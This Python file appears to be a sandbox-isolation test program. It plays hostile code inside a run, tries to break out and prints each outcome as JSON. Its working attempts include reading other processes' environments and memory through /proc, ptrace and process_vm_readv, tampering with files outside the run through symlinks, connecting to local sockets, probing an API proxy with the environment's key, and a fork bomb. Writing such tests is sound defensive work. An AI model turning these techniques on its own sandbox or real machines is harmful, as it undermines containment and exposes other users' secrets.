"""What hostile code in a run tries, as one program: it prints what each attempt came to, as JSON.

It is generous to itself: it is told every port, path, process and id that it could want. What it gets out of a place
that is not the run's is printed; the test looks for its own markers in there.
"""

import ctypes
import json
import os
import resource
import socket
import sys
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

IPPROTO_MPTCP = 262
MSG_FASTOPEN = 0x20000000
PTRACE_ATTACH = 16
SHM_RDONLY = 0o10000
WORLD = 0o1666
USER_KEYRING = -4
WEB = (socket.AF_INET, socket.AF_INET6)

Told = dict[str, Any]
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.shmat.restype = ctypes.c_void_p


def tried(attempt: Callable[..., object], *arguments: object) -> str:
    """What came of it, or why nothing did."""
    try:
        return f"got {attempt(*arguments)!r}"
    except (OSError, ValueError) as refused:
        return f"{type(refused).__name__}: {refused}"


def called(result: int) -> int:
    """The result of a function of the C library's; raises OSError where it is -1."""
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def environments(_: Told) -> list[str]:
    """Of all processes that can be seen, this one's included."""
    pids = [entry for entry in Path("/proc").iterdir() if entry.name.isdigit()]
    return [text for text in (tried((pid / "environ").read_bytes) for pid in pids) if text.startswith("got")]


def handler(told: Told) -> list[str]:
    """Its memory, its open files and directories, by every door that there is."""
    place = Path("/proc", str(told["handler"]))
    names = ("environ", "mem", "maps", "auxv", "stack", "syscall", "pagemap", "clear_refs")
    looks = [tried((place / name).read_bytes) for name in names]
    looks += [tried((place / name).readlink) for name in ("cwd", "exe", "root")]
    looks += [tried(list, (place / "fd").iterdir()), tried((place / "oom_score_adj").write_text, "1000")]
    return [*looks, tried(traced, told["handler"]), tried(peeked, told["handler"])]


def traced(pid: int) -> int:
    return called(LIBC.ptrace(PTRACE_ATTACH, pid, None, None))


def peeked(pid: int) -> bytes:
    piece = ctypes.create_string_buffer(64)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(piece), 64)
    remote = (ctypes.c_void_p * 2)(0x400000, 64)
    called(LIBC.process_vm_readv(pid, local, 1, remote, 1, 0))
    return bytes(piece)


def signals(told: Told) -> list[str]:
    """A signal that does nothing where it is allowed: to the handler, and to another session."""
    return [tried(os.kill, pid, 0) for pid in told["others"]]


def limits(told: Told) -> list[str]:
    """Limits and priorities of the handler, which would outlast the run, and of others."""
    looks = [tried(resource.prlimit, pid, resource.RLIMIT_CORE, (0, 0)) for pid in told["others"]]
    looks += [tried(os.setpriority, os.PRIO_PROCESS, pid, 19) for pid in told["others"]]
    looks += [tried(os.sched_setaffinity, pid, os.sched_getaffinity(0)) for pid in told["others"]]
    return [*looks, tried(os.setpriority, os.PRIO_USER, 0, 19)]


def files(told: Told) -> list[str]:
    """Reading what is others', by its name, by what is around it, and by links."""
    looks = []
    for path in map(Path, told["secret"]):
        link = Path("to-a-secret")
        link.symlink_to(path)
        looks += [tried(path.read_bytes), tried(list, path.parent.iterdir()), tried(link.read_bytes)]
        looks.append(tried(os.link, path, "hard"))
        link.unlink()
    return looks


def changes(told: Told) -> list[str]:
    """Changing what is others', and leaving something where a later run could find it."""
    looks = []
    for path in map(Path, told["secret"]):
        looks += [tried(os.truncate, path, 0), tried(path.rename, f"{path}.moved"), tried(path.unlink)]
        looks.append(tried(Path(f"{path}.new").write_text, "left"))
    return looks + [tried(Path(place, told["name"]).write_text, "left") for place in told["elsewhere"]]


def modes(told: Told) -> list[str]:
    """What Landlock does not know: of what is others', and of the directories that it is in."""
    paths = [place for path in map(Path, told["secret"]) for place in (path, path.parent)]
    changes: list[Callable[[Path], object]] = [lambda path: path.chmod(path.stat().st_mode), os.utime]
    changes.append(lambda path: os.chown(path, os.getuid(), os.getgid()))
    return [tried(change, path) for path in paths for change in changes]


def sockets(told: Told) -> list[str]:
    """A service on loopback, a Unix socket in /tmp, an abstract one: behind such stand engines, buses and shells."""
    looks = []
    for protocol, flags in ((0, 0), (IPPROTO_MPTCP, 0), (0, MSG_FASTOPEN)):
        for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::ffff:127.0.0.1")):
            looks.append(tried(spoken, family, protocol, (address, told["port"]), flags))
    return looks + [tried(spoken, socket.AF_UNIX, 0, path, 0) for path in told["sockets"]]


def spoken(family: int, protocol: int, address: Any, flags: int) -> bytes:
    with socket.socket(family, socket.SOCK_STREAM, protocol) as line:
        line.settimeout(5)
        if flags:
            line.sendto(b"x", flags, address)
        else:
            line.connect(address)
        return line.recv(1000)


def protocols(_: Told) -> list[str]:
    """Sockets of other kinds than TCP's and UDP's, and netlink's own: of those that are refused only how many."""
    ways = [(family, kind, 0) for family in range(46) for kind in (1, 2, 3, 5, 10)]
    ways = [way for way in ways if way[0] not in (*WEB, socket.AF_NETLINK)]
    ways += [(family, 1, protocol) for family in WEB for protocol in (132, IPPROTO_MPTCP)]
    ways += [(family, 2, protocol) for family in WEB for protocol in (1, 58, 136)]
    ways += [(family, kind, protocol) for family in WEB for kind in (3, 5, 6, 10) for protocol in (0, 33, 132, 255)]
    ways += [(socket.AF_NETLINK, 3, protocol) for protocol in range(1, 23)]
    outcomes = [f"{tried(opened, *way)} {way}" for way in ways]
    got = [outcome for outcome in outcomes if outcome.startswith("got")]
    return [*got, f"{len(outcomes) - len(got)} refused"]


def opened(family: int, kind: int, protocol: int) -> int:
    """Not by `socket.socket`, which looks at a new socket in its own way."""
    return called(LIBC.socket(family, kind | socket.SOCK_CLOEXEC, protocol))


def kept_by_the_kernel(told: Told) -> list[str]:
    """Another's System V memory, and things of one's own that would outlive the run."""
    looks = [tried(attached, told["memory"])]
    looks += [tried(made, LIBC.shmget, told["mark"], 100, WORLD), tried(made, LIBC.semget, told["mark"], 1, WORLD)]
    return [*looks, tried(made, LIBC.msgget, told["mark"], WORLD), tried(made, LIBC.syscall, 250, 0, USER_KEYRING, 1)]


def made(call: Callable[..., int], *arguments: int) -> int:
    return called(call(*arguments))


def attached(number: int) -> bytes:
    address = LIBC.shmat(number, None, SHM_RDONLY)
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "shmat")
    return bytes(ctypes.string_at(address, 32))


def proxy(_: Told) -> list[str]:
    """Other paths, other methods, no token, another's."""
    base, token = os.environ["ANTHROPIC_BASE_URL"], os.environ["ANTHROPIC_API_KEY"]
    paths = ("/v1/models", "/v1/files", "/v1/messages/../models", "/", "/v1/organizations/usage_report/messages")
    keys = ("", "run-" + "x" * 43)
    return [asked(base + path, token) for path in paths] + [asked(f"{base}/v1/messages", key) for key in keys]


def asked(url: str, key: str) -> str:
    request = urllib.request.Request(url, b"{}", {"x-api-key": key, "content-type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return f"got {answer.status} {answer.read()!r}"
    except urllib.error.HTTPError as refused:
        return f"refused {refused.code}"


def disk(_: Told) -> list[str]:
    """A file larger than a session may be."""
    with Path("huge").open("wb") as file:
        outcome = tried(file.truncate, 1 << 40)
    Path("huge").unlink()
    return [outcome]


def forks(_: Told) -> list[str]:
    """As many children as there can be, at the same time. Written down at once: the CLI may give up over it."""
    born, (waiting, held) = 0, os.pipe()
    try:
        while born < 5000:
            if os.fork() == 0:
                os.close(held)
                os.read(waiting, 1)
                os._exit(0)
            born += 1
        outcome = f"got {born}"
    except OSError as refused:
        outcome = f"{type(refused).__name__} after {born}"
    Path("forks").write_text(outcome)
    os.close(held)
    for _child in range(born):
        os.wait()
    return [outcome]


ALL = (
    environments,
    handler,
    signals,
    limits,
    files,
    changes,
    modes,
    sockets,
    protocols,
    kept_by_the_kernel,
    proxy,
    disk,
)

if __name__ == "__main__":
    orders = json.loads(Path(sys.argv[1]).read_text())
    for attack in (forks,) if "forks" in sys.argv else ALL:
        try:
            print(json.dumps([attack.__name__, attack(orders)]))
        except OSError as refused:
            print(json.dumps([attack.__name__, [str(refused)]]))
